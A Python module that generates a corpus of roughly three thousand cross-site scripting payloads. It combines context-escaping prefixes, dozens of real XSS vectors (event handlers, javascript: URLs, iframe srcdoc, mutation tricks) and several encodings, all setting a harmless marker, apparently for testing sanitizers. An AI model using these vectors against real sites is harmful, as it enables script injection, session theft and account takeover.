"""Words that want to run: every vector in every frame that a page could put it in, written in every
way that a browser might read it.

Each says `window.ran = 1` where it runs. Combined here from the kinds that the HTML standard names:
elements that load, events that fire by themselves, addresses that are scripts, content that leaves
an attribute, a text area, a title, a comment, a style, a foreign namespace.
"""

from itertools import product

RAN = "window.ran=1"
# What ends the place where the words stand, before they begin.
EXITS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "]]>",
    "{{ x }}",
    "</p></div>",
    '" ',
    "' ",
    "<math><mtext>",
    "<svg><desc>",
    "<table><td>",
    "<select><option>",
    "<!--",
    "\u2028",
)
VECTORS = (
    f"<script>{RAN}</script>",
    f"<script src='data:text/javascript,{RAN}'></script>",
    f"<img src=x onerror={RAN}>",
    f"<img src=x:x onerror='{RAN}' alt=",
    f"<svg onload={RAN}>",
    f"<svg/onload={RAN}//",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RAN}'><text>x</text></a></svg>",
    f"<math href='javascript:{RAN}'>x</math>",
    f"<body onload={RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RAN}'></iframe>",
    f"<object data='data:text/html,<script>parent.{RAN}</script>'></object>",
    f"<embed src='javascript:{RAN}'>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}></audio>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<input autofocus onfocus={RAN}>",
    f"<marquee onstart={RAN}>x</marquee>",
    f"<style onload={RAN}></style>",
    f"<link rel=stylesheet href=x onerror={RAN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    f"<base href='javascript:{RAN}//'>",
    f"<form action='javascript:{RAN}'><button autofocus>x</button></form>",
    f"<a href='javascript:{RAN}'>x</a>",
    f"<a href='&#106;avascript:{RAN}'>x</a>",
    f"<a href=' java\tscript:{RAN}'>x</a>",
    f"<p style='animation-name:x' onanimationstart={RAN}>x</p>",
    f"onmouseover={RAN} autofocus onfocus={RAN} x=",
    f"<template><script>{RAN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RAN}&gt;'>",
    f"javascript:{RAN}",
    f"[x](javascript:{RAN})",
    f'https://a.example/"onmouseover={RAN} x',
    f"http://a.example/<img/src=x/onerror={RAN}>",
    f"<x onclick={RAN} tabindex=1 id=x autofocus onfocus={RAN}>x</x>",
)


def _plain(words: str) -> str:
    return words


def _shouted(words: str) -> str:
    """Tags and events in capitals, the script as it has to be."""
    return RAN.join(part.upper() for part in words.split(RAN))


def _slashed(words: str) -> str:
    """Slashes for the spaces that part attributes."""
    return words.replace(" ", "/")


def _entities(words: str) -> str:
    """Signs as numbers, which come back to life where a text is unescaped once too often."""
    return words.replace("<", "&#60;").replace(">", "&#62;").replace('"', "&#34;")


def _unclosed(words: str) -> str:
    """Without its last sign, which browsers make up for."""
    return words[:-1]


WRITINGS = (_plain, _shouted, _slashed, _entities, _unclosed)


def payloads() -> list[str]:
    """A little more than three thousand, each once, always in the same order."""
    every = product(EXITS, VECTORS, WRITINGS)
    found = (write(before + vector).strip() for before, vector, write in every)
    return list(dict.fromkeys(found))
